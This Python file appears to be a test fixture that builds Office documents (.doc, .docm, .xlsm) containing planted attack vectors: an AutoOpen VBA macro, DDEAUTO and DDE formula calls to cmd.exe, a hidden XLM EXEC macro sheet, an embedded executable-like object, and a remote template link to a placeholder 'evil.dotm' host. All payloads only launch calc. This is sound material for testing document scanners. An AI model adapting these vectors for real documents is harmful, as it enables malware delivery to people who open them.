"""Office documents of both kinds with macros, objects and links planted in them, made byte by byte."""

# ruff: noqa: E501 - parts of documents stand here as they are

from __future__ import annotations

import struct
from collections.abc import Mapping
from io import BytesIO
from itertools import pairwise
from zipfile import ZIP_DEFLATED, ZipFile

TEXT = "The figures of the quarter."
MACRO = 'Sub AutoOpen()\r\n  Shell "calc.exe"\r\nEnd Sub\r\n'

_SECTOR, _CUTOFF = 512, 4096
_END, _FREE, _FAT = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD
_NONE = 0xFFFFFFFF


def compound(streams: Mapping[str, bytes]) -> bytes:
    """A compound file ([MS-CFB], version 3) with these streams, by their paths."""
    sectors, fat = list[bytes](), list[int]()
    small, small_fat = list[bytes](), list[int]()

    def place(content: bytes, into: list[bytes], table: list[int], size: int) -> int:
        if not content:
            return _END
        start = len(into)
        into.extend(content[at : at + size].ljust(size, b"\0") for at in range(0, len(content), size))
        table.extend([*range(start + 1, len(into)), _END])
        return start

    entries: list[tuple[str, int, int, int]] = [("Root Entry", 5, _END, 0)]  # name, kind, start, size
    children: dict[int, list[int]] = {0: []}
    folders = {"": 0}
    for path, content in streams.items():
        *steps, name = path.split("/")
        inside = 0
        for depth, step in enumerate(steps, 1):
            folder = "/".join(steps[:depth])
            if folder not in folders:
                folders[folder] = len(entries)
                children[len(entries)] = []
                children[inside].append(len(entries))
                entries.append((step, 1, 0, 0))
            inside = folders[folder]
        children[inside].append(len(entries))
        is_small = len(content) < _CUTOFF
        start = place(content, *((small, small_fat, 64) if is_small else (sectors, fat, _SECTOR)))
        entries.append((name, 2, start, len(content)))

    mini = b"".join(small)
    entries[0] = ("Root Entry", 5, place(mini, sectors, fat, _SECTOR), len(mini))
    mini_table = b"".join(struct.pack("<L", number) for number in small_fat)
    mini_table_start = place(_filled(mini_table), sectors, fat, _SECTOR)
    directory_start = place(_directory(entries, children), sectors, fat, _SECTOR)
    count = -(-len(fat) // 127)
    first = len(fat)
    fat += [_FAT] * count
    table = b"".join(struct.pack("<L", number) for number in fat).ljust(count * _SECTOR, b"\xff")
    places = [*range(first, first + count), *[_FREE] * (109 - count)]
    numbers = (0, count, directory_start, 0, _CUTOFF, mini_table_start, len(_filled(mini_table)) // _SECTOR)
    header = struct.pack("<8s16s5H6s", bytes.fromhex("d0cf11e0a1b11ae1"), b"", 0x3E, 3, 0xFFFE, 9, 6, b"")
    return header + struct.pack("<9L109L", *numbers, _END, 0, *places) + b"".join(sectors) + table


def _filled(table: bytes) -> bytes:
    return table.ljust(-(-len(table) // _SECTOR) * _SECTOR, b"\xff")


def _directory(entries: list[tuple[str, int, int, int]], children: dict[int, list[int]]) -> bytes:
    right = dict.fromkeys(range(len(entries)), _NONE)
    child = dict.fromkeys(range(len(entries)), _NONE)
    for folder, inside in children.items():
        ordered = sorted(inside, key=lambda number: (len(entries[number][0]), entries[number][0].upper()))
        child[folder] = ordered[0] if ordered else _NONE
        right |= dict(pairwise(ordered))
    written = b"".join(
        _entry(name, kind, right[number], child[number], start, size)
        for number, (name, kind, start, size) in enumerate(entries)
    )
    return written + _entry("", 0, _NONE, _NONE, 0, 0) * (-len(entries) % 4)


def _entry(name: str, kind: int, right: int, child: int, start: int, size: int) -> bytes:
    encoded = (name + "\0").encode("utf-16-le") if kind else b""
    return struct.pack(
        "<64sHBBLLL16sLQQLQ", encoded, len(encoded), kind, 1, _NONE, right, child, b"", 0, 0, 0, start, size
    )


def vba_project(folder: str) -> dict[str, bytes]:
    """The streams of a project with one module of `MACRO` ([MS-OVBA])."""
    name = b"Module1"
    source = b'Attribute VB_Name = "Module1"\r\n' + MACRO.encode()
    records = [
        (0x01, struct.pack("<L", 1)), (0x02, struct.pack("<L", 0x409)), (0x14, struct.pack("<L", 0x409)),
        (0x03, struct.pack("<H", 1252)), (0x04, b"VBAProject"), (0x05, b""), (0x40, b""), (0x06, b""), (0x3D, b""),
        (0x07, struct.pack("<L", 0)), (0x08, struct.pack("<L", 0)),
    ]  # fmt: skip
    modules = [
        (0x19, name), (0x47, name.decode().encode("utf-16-le")), (0x1A, name),
        (0x32, name.decode().encode("utf-16-le")), (0x1C, b""), (0x48, b""), (0x31, struct.pack("<L", 0)),
        (0x1E, struct.pack("<L", 0)), (0x2C, struct.pack("<H", 0xFFFF)), (0x21, b""), (0x2B, b""),
    ]  # fmt: skip
    directory = (
        _records(records)
        + struct.pack("<HLLH", 0x09, 4, 1, 1)  # of the version, which does not keep to its length
        + _records(
            [(0x0C, b""), (0x3C, b""), (0x0F, struct.pack("<H", 1)), (0x13, struct.pack("<H", 0xFFFF))]
        )
        + _records(modules)
        + struct.pack("<HL", 0x10, 0)
    )
    project = b'ID="{00000000-0000-0000-0000-000000000000}"\r\nModule=Module1\r\nName="VBAProject"\r\n'
    return {
        f"{folder}/PROJECT": project,
        f"{folder}/VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\0\0\0",
        f"{folder}/VBA/dir": _compressed(directory),
        f"{folder}/VBA/Module1": _compressed(source),
    }


def _records(records: list[tuple[int, bytes]]) -> bytes:
    return b"".join(struct.pack("<HL", kind, len(content)) + content for kind, content in records)


def _compressed(content: bytes) -> bytes:
    """As the compression of [MS-OVBA] §2.4.1 writes what nothing repeats in."""
    made = b"\x01"
    for at in range(0, len(content), 3600):
        piece = content[at : at + 3600]
        tokens = b"".join(b"\0" + piece[start : start + 8] for start in range(0, len(piece), 8))
        made += struct.pack("<H", 0xB000 | (len(tokens) - 1)) + tokens
    return made


def a_doc() -> bytes:
    """A Word document of the old kind with a macro, a packed object, a DDE field, and `TEXT`."""
    text = TEXT.encode() + b'\x13 DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" \x14result\x15'
    return compound(
        {
            "WordDocument": b"\xec\xa5".ljust(512, b"\0") + text,
            **vba_project("Macros"),
            "ObjectPool/_1/\x01Ole10Native": b"MZ the program",
            "ObjectPool/_1/\x03ObjInfo": b"info",
        }
    )


def a_tied_doc(template: str, table: str, *, count: int = 18) -> bytes:
    """A Word document of the old kind with that template and the address of a form letter's data.

    Its strings lie in the stream `table` and claim to be `count`; in truth there are 18.
    """
    texts = ["", template, "The title", *[""] * 5, "http://letters.example/data", *[""] * 9]
    strings = b"\xff\xff" + struct.pack("<HH", count, 0)
    strings += b"".join(struct.pack("<H", len(text)) + text.encode("utf-16-le") for text in texts)
    head = bytearray(0x400)
    struct.pack_into("<HH6xH", head, 0, 0xA5EC, 0x00C1, 0x0200 if table == "1Table" else 0)
    struct.pack_into("<LL", head, 0x019A, len(b"before"), len(strings))
    return compound({"WordDocument": bytes(head) + TEXT.encode(), table: b"before" + strings + b"behind"})


_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_TIES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'


def _ties(*ties: tuple[str, str, str, str]) -> str:
    """Relationships: identifier, type, target, and `External` or nothing."""
    lines = "".join(
        f'<Relationship Id="{number}" Type="{kind}" Target="{target}"{f" TargetMode={chr(34)}{mode}{chr(34)}" if mode else ""}/>'
        for number, kind, target, mode in ties
    )
    return f'{_HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{lines}</Relationships>'


def _types(main: str, part: str, *others: tuple[str, str]) -> str:
    overrides = "".join(f'<Override PartName="/{name}" ContentType="{kind}"/>' for name, kind in others)
    return (
        f'{_HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        f'<Override PartName="/{part}" ContentType="{main}"/>{overrides}</Types>'
    )


def packed(parts: Mapping[str, str | bytes]) -> bytes:
    """A document of these parts."""
    made = BytesIO()
    with ZipFile(made, "w", ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return made.getvalue()


def a_docm() -> bytes:
    """A Word document with a macro, an embedded object, a DDE field, a remote template, and a link that is fine."""
    return packed(
        {
            "[Content_Types].xml": _types(
                "application/vnd.ms-word.document.macroEnabled.main+xml", "word/document.xml",
                ("word/settings.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"),
                ("word/vbaData.xml", "application/vnd.ms-word.vbaData+xml"),
            ),
            "_rels/.rels": _ties(("rId1", f"{_TIES}/officeDocument", "word/document.xml", "")),
            "word/document.xml": f"""{_HEAD}<w:document {_W} {_R} xmlns:o="urn:schemas-microsoft-com:office:office">
<w:body><w:p><w:r><w:t>{TEXT}</w:t></w:r></w:p>
<w:p><w:hyperlink r:id="rId5"><w:r><w:t>our page</w:t></w:r></w:hyperlink></w:p>
<w:p><w:r><w:object><w:t>preview</w:t><o:OLEObject Type="Embed" ProgID="Package" r:id="rId3"/></w:object></w:r></w:p>
<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r>
<w:r><w:instrText>AUTO c:\\windows\\cmd.exe "/k calc" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>
<w:r><w:t>shown</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
<w:p><w:fldSimple w:instr="DDE cmd calc"><w:r><w:t>simple</w:t></w:r></w:fldSimple></w:p></w:body></w:document>""",
            "word/_rels/document.xml.rels": _ties(
                ("rId1", f"{_TIES}/settings", "settings.xml", ""),
                ("rId2", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", ""),
                ("rId3", f"{_TIES}/oleObject", "embeddings/oleObject1.bin", ""),
                ("rId5", f"{_TIES}/hyperlink", "https://www.office.example/", "External"),
            ),
            "word/settings.xml": f'{_HEAD}<w:settings {_W} {_R}><w:attachedTemplate r:id="rId1"/><w:zoom w:percent="100"/></w:settings>',
            "word/_rels/settings.xml.rels": _ties(
                ("rId1", f"{_TIES}/attachedTemplate", "http://192.0.2.7/evil.dotm", "External")
            ),
            "word/_rels/vbaProject.bin.rels": _ties(
                ("rId1", "http://schemas.microsoft.com/office/2006/relationships/wordVbaData", "vbaData.xml", "")
            ),
            "word/vbaProject.bin": compound({path[1:]: content for path, content in vba_project("").items()}),
            "word/vbaData.xml": f'{_HEAD}<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>',
            "word/embeddings/oleObject1.bin": compound({"\x01Ole10Native": b"MZ the program"}),
        }
    )  # fmt: skip


def an_xlsm() -> bytes:
    """A workbook with a macro, a sheet of macros of the oldest kind, and a formula that asks another program."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return packed(
        {
            "[Content_Types].xml": _types(
                "application/vnd.ms-excel.sheet.macroEnabled.main+xml", "xl/workbook.xml",
                ("xl/worksheets/sheet1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"),
                ("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml"),
            ),
            "_rels/.rels": _ties(("rId1", f"{_TIES}/officeDocument", "xl/workbook.xml", "")),
            "xl/workbook.xml": f'{_HEAD}<workbook xmlns="{main}" {_R}><sheets><sheet name="One" sheetId="1" r:id="rId1"/>'
            '<sheet name="Macro1" sheetId="2" state="hidden" r:id="rId2"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": _ties(
                ("rId1", f"{_TIES}/worksheet", "worksheets/sheet1.xml", ""),
                ("rId2", "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml", ""),
                ("rId3", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", ""),
            ),
            "xl/worksheets/sheet1.xml": f'{_HEAD}<worksheet xmlns="{main}"><sheetData><row r="1">'
            f'<c r="A1" t="inlineStr"><is><t>{TEXT}</t></is></c><c r="B1"><f>cmd|\'/c calc\'!A0</f><v>1</v></c>'
            '<c r="C1"><f>A1&amp;"|!"</f><v>2</v></c></row></sheetData></worksheet>',
            "xl/macrosheets/sheet1.xml": f'{_HEAD}<xm:macrosheet xmlns="{main}" '
            'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1">'
            '<f>EXEC("calc.exe")</f></c></row></sheetData></xm:macrosheet>',
            "xl/vbaProject.bin": compound({path[1:]: content for path, content in vba_project("").items()}),
        }
    )  # fmt: skip
